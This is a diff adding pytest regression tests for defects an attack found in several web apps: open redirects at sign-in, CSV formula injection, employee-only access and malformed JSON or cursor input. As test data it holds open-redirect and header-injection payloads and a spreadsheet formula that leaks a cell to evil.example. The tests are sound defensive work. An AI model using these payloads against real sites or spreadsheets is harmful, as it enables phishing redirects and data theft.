@@ -1,0 +1,188 @@
+"""The defects an attack found (issue 18), one test each, so they stay closed."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+from pathlib import Path
+
+import pytest
+
+from shared.platform.settings import ROOT
+
+# --- 1. sign-in redirects stay on this site ----------------------------------------------------
+
+
+OFF_SITE = ["/%09/evil.example", "/%0a/evil.example", "/%0d%0a/evil.example", "%09//evil.example",
+            "//evil.example", "/\\evil.example", "https://evil.example/", "/%20/evil.example", "%20/evil.example",
+            "javascript:alert(1)", "/ok%0d%0aSet-Cookie:%20x=1"]
+
+
+@pytest.mark.parametrize("app_name", ["reqsys", "taskapp"])
+def test_sign_in_never_redirects_off_the_site(app_name, make_app, make_user, submit):
+    user = make_user(groups=("parents", "employees"))
+    web = make_app(app_name).test_client()
+    for target in OFF_SITE:
+        response = submit(web, f"/auth/login?next={target}", {"email": user.email, "password": user.password},
+                          page="/auth/login")
+        assert (response.status_code, response.headers.get("Location")) == (302, "/"), target
+
+
+def test_sign_in_still_returns_to_a_page_of_this_site(make_app, make_user, submit):
+    user = make_user(groups=("parents",))
+    web = make_app("reqsys").test_client()
+    response = submit(web, "/auth/login?next=/applications%3Fpage%3D2", {"email": user.email,
+                      "password": user.password}, page="/auth/login")
+    assert response.headers["Location"] == "/applications?page=2"
+
+
+# --- 3. no CSV cell a spreadsheet would run --------------------------------------------------
+
+
+def test_report_csv_quotes_formula_cells():
+    from taskapp.analytics.engines import QueryResult
+    from taskapp.analytics.reports import to_csv
+
+    evil = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    body = to_csv(QueryResult(columns=["title", "count"], rows=[(text, -3) for text in evil]))
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert [row[0] for row in rows[1:]] == ["'" + text for text in evil]
+    assert {row[1] for row in rows[1:]} == {"-3"}, "numbers stay numbers"
+
+
+def test_every_csv_writer_goes_through_csvsafe():
+    """No module but shared/platform/csvsafe.py makes a csv.writer: the one place that quotes formulas."""
+    writers = []
+    for path in ROOT.glob("*/**/*.py"):
+        if ".venv" in path.parts or "tests" in path.parts or path.name == "csvsafe.py":
+            continue
+        tree = ast.parse(path.read_text())
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
+                    isinstance(node.value, ast.Name) and node.value.id == "csv":
+                writers.append(str(path.relative_to(ROOT)))
+    assert writers == []
+
+
+# --- 4. the task manager is for agency employees ------------------------------------------------
+
+
+def test_taskapp_is_for_agency_employees_only(make_app, make_user, bearer, sign_in, submit):
+    web_app = make_app("taskapp")
+    parent = make_user(groups=("parents",))
+    staff = make_user(groups=("staff",), daycare_id="A00017")
+    employee = make_user(groups=("employees",))
+    for outsider in (parent, staff):
+        api = web_app.test_client()
+        refused = api.get("/api/tasks", headers=bearer(outsider.email, app_name="taskapp"))
+        assert refused.status_code == 403 and refused.get_json()["error"]["code"] == "not_a_member"
+        web = web_app.test_client()
+        sign_in(web, outsider.email)
+        page = web.get("/tasks")
+        assert page.status_code == 403 and "employees" in page.get_data(as_text=True)
+    assert web_app.test_client().get("/api/tasks", headers=bearer(employee.email, app_name="taskapp")).status_code \
+        == 200
+
+
+def test_signing_up_on_taskapp_grants_no_access(make_app, cognito, resources, submit):
+    from tests.conftest import TEST_PASSWORD, unique_email
+
+    web = make_app("taskapp").test_client()
+    email = unique_email("signup")
+    done = submit(web, "/auth/signup", {"email": email, "name": "낯선 사람", "password": TEST_PASSWORD,
+                                        "password_again": TEST_PASSWORD})
+    assert done.status_code == 302
+    pool = resources["COGNITO_USERPOOL_ID"]
+    try:
+        groups = cognito.admin_list_groups_for_user(UserPoolId=pool, Username=email)["Groups"]
+        assert groups == []
+    finally:
+        cognito.admin_delete_user(UserPoolId=pool, Username=email)
+
+
+def test_the_demo_employees_and_admins_are_in_the_employees_group():
+    from shared.tools.demo import DEMO_USERS
+
+    groups = {email: set(groups) for email, _, groups, _ in DEMO_USERS}
+    assert {e for e, g in groups.items() if "employees" in g} == {"user@example.com", "user2@example.com",
+                                                                  "admin@example.com"}
+
+
+# --- 7. no 5xx from hostile input ----------------------------------------------------------------
+
+DEEP = "[" * 100_000 + "]" * 100_000
+DEEP_OBJECT = '{"a":' * 5_000 + "1" + "}" * 5_000
+
+
+@pytest.mark.parametrize("app_name", ["reqsys", "childsys", "taskapp"])
+def test_deeply_nested_json_is_a_400_on_token(app_name, make_app):
+    api = make_app(app_name, migrate=False).test_client()
+    for body in (DEEP, DEEP_OBJECT, '{"email": "a@b.c", "password": ' + DEEP + "}"):
+        response = api.post("/auth/token", data=body, content_type="application/json")
+        assert response.status_code == 400, response.get_data(as_text=True)[:200]
+        assert response.get_json()["error"]["code"] == "malformed_json"
+
+
+def test_deeply_nested_json_is_a_400_on_api_routes(api, alice):
+    for path in ("/api/tasks", "/api/imports", "/api/exports"):
+        response = api.post(path, data=DEEP, content_type="application/json", headers=alice.headers)
+        assert response.status_code == 400, path
+    fine = api.post("/api/tasks", json={"title": "[{" * 10, "labels": ["x"]}, headers=alice.headers)
+    assert fine.status_code == 201, "brackets inside strings do not count"
+
+
+def test_a_signed_deep_or_odd_sync_call_is_refused_not_a_500(make_app):
+    from shared.platform.signing import SIGNATURE_HEADER, TIMESTAMP_HEADER, sign
+
+    app = make_app("childsys")
+    web = app.test_client()
+    secret = app.config["SETTINGS"].sync_secret
+    raw = DEEP.encode()
+    deep = web.post("/enterwait/request", data=raw, content_type="application/json", headers=sign(secret, raw))
+    assert deep.status_code == 400
+    for stamp in ("²", "١٢٣", "9" * 40, "-1"):
+        odd = web.post("/enterwait/request", data=b"{}", content_type="application/json",
+                       headers={TIMESTAMP_HEADER: stamp, SIGNATURE_HEADER: "sha256=00"})
+        assert odd.status_code == 401, stamp
+
+
+def test_an_unknown_status_on_the_staff_page_is_a_400(make_app, make_user, sign_in):
+    web = make_app("childsys").test_client()
+    staff = make_user(groups=("staff",), daycare_id="A00017")
+    sign_in(web, staff.email)
+    assert web.get("/applications?status=FOO").status_code == 400
+    assert web.get("/applications?status=ALL").status_code == 200
+
+
+def test_a_crafted_task_cursor_is_a_400(api, alice):
+    import base64
+    import json
+
+    from tests.taskapp_helpers import new_task
+
+    for _ in range(3):
+        new_task(api, alice)
+    first = api.get("/api/tasks?limit=1", headers=alice.headers).get_json()
+    state = json.loads(base64.urlsafe_b64decode(first["cursor"] + "=="))
+    name, key = next((n, k) for n, k in state.items() if isinstance(k, dict))
+
+    def encode(value) -> str:
+        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")
+
+    crafted = [
+        {**state, name: {**key, "extra": {"S": "x"}}},  # a key DynamoDB refuses
+        {**state, name: {k: v for k, v in key.items() if k != "sk"}},
+        {**state, name: {**key, "sk": {"S": "x" * 5000}}},
+        {**state, name: {**key, "sk": {"N": "1"}}},
+        {**state, name: {**key, "sk": {"S": ""}}},
+    ]
+    for value in crafted:
+        response = api.get(f"/api/tasks?limit=1&cursor={encode(value)}", headers=alice.headers)
+        assert response.status_code == 400, value
+        assert "cursor" in response.get_json()["error"]["fields"]
+    deep = base64.urlsafe_b64encode(DEEP.encode()).decode()
+    assert api.get(f"/api/tasks?cursor={deep[:4000]}", headers=alice.headers).status_code == 400
+    notes = api.get(f"/api/notifications?cursor={encode({'pk': {'S': 'x'}, 'sk': {'S': 'y'}, 'z': {'S': 'q'}})}",
+                    headers=alice.headers)
+    assert notes.status_code == 400
